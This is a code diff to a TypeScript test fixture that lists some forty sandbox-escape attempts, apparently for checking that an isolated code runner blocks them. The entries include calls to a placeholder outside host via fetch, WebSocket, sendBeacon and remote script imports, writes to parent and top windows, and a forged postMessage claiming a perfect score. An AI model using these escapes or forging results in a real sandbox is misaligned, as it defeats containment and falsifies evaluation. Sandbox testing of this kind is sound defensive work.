@@ -6,34 +6,34 @@ export interface Escape {
   readonly top?: string;
 }
 
-/** Where nothing may arrive. */
-export const OUTSIDE = 'http://escape.invalid';
+/** In the attempts: where nothing may arrive. The test puts in the address of a listener. */
+export const OUTSIDE = 'OUTSIDE';
 
 const later = (code: string) => `(async () => { ${code} })(); return [0];`;
 
 /** Forty ways out, none of which is one. Each also leaves a mark where it can, which the next run looks for. */
 export const escapes: readonly Escape[] = [
-  { name: 'fetch', body: later(`await fetch('${OUTSIDE}/fetch')`) },
+  { name: 'fetch', body: later(`await fetch('http://${OUTSIDE}/fetch')`) },
   { name: 'fetch from the own site', body: later(`await fetch('/escaped')`) },
   {
     name: 'XMLHttpRequest',
-    body: `const x = new XMLHttpRequest(); x.open('GET', '${OUTSIDE}/xhr', false); x.send(); return [1];`,
+    body: `const x = new XMLHttpRequest(); x.open('GET', 'http://${OUTSIDE}/xhr', false); x.send(); return [1];`,
   },
-  { name: 'WebSocket', body: `new WebSocket('ws://escape.invalid'); return [1];` },
-  { name: 'EventSource', body: `new EventSource('${OUTSIDE}/events'); return [1];` },
-  { name: 'WebTransport', body: `new WebTransport('https://escape.invalid'); return [1];` },
+  { name: 'WebSocket', body: `new WebSocket('ws://${OUTSIDE}'); return [1];` },
+  { name: 'EventSource', body: `new EventSource('http://${OUTSIDE}/events'); return [1];` },
+  { name: 'WebTransport', body: `new WebTransport('https://${OUTSIDE}'); return [1];` },
   {
     name: 'RTCPeerConnection',
-    body: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:escape.invalid' }] }); return [1];`,
+    body: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${OUTSIDE}' }] }); return [1];`,
   },
-  { name: 'sendBeacon', body: `return [navigator.sendBeacon('${OUTSIDE}/beacon') ? 1 : 0];` },
-  { name: 'importScripts', body: `importScripts('${OUTSIDE}/script.js'); return [1];` },
+  { name: 'sendBeacon', body: `return [navigator.sendBeacon('http://${OUTSIDE}/beacon') ? 1 : 0];` },
+  { name: 'importScripts', body: `importScripts('http://${OUTSIDE}/script.js'); return [1];` },
   { name: 'importScripts of data', body: `importScripts('data:text/javascript,1'); return [1];` },
-  { name: 'import() of an address', body: later(`await import('${OUTSIDE}/module.js'); globalThis.isOut = 1;`) },
-  { name: 'import() of data', body: later(`await import('data:text/javascript,fetch("${OUTSIDE}/data")')`) },
+  { name: 'import() of an address', body: later(`await import('http://${OUTSIDE}/module.js'); globalThis.isOut = 1;`) },
+  { name: 'import() of data', body: later(`await import('data:text/javascript,fetch("http://${OUTSIDE}/data")')`) },
   {
     name: 'import() of a blob',
-    body: later(`const u = URL.createObjectURL(new Blob(['fetch("${OUTSIDE}/blob")'])); await import(u);`),
+    body: later(`const u = URL.createObjectURL(new Blob(['fetch("http://${OUTSIDE}/blob")'])); await import(u);`),
   },
   {
     name: 'import() of the own script',
@@ -47,9 +47,9 @@ export const escapes: readonly Escape[] = [
   { name: 'the cookie store', body: later(`await cookieStore.set('escaped', '1')`) },
   { name: 'the private file system', body: later(`await navigator.storage.getDirectory()`) },
   { name: 'parent', body: `parent.document.title = 'escaped'; return [1];` },
-  { name: 'top', body: `top.location = '${OUTSIDE}/top'; return [1];` },
+  { name: 'top', body: `top.location = 'http://${OUTSIDE}/top'; return [1];` },
   { name: 'the document', body: `document.body.innerHTML = 'escaped'; return [1];` },
-  { name: 'a window', body: `open('${OUTSIDE}/window'); return [1];` },
+  { name: 'a window', body: `open('http://${OUTSIDE}/window'); return [1];` },
   {
     name: 'a forged answer',
     body: `postMessage('={"ok":true,"output":{"scores":[1]},"state":null,"logs":[]}'); return [0];`,
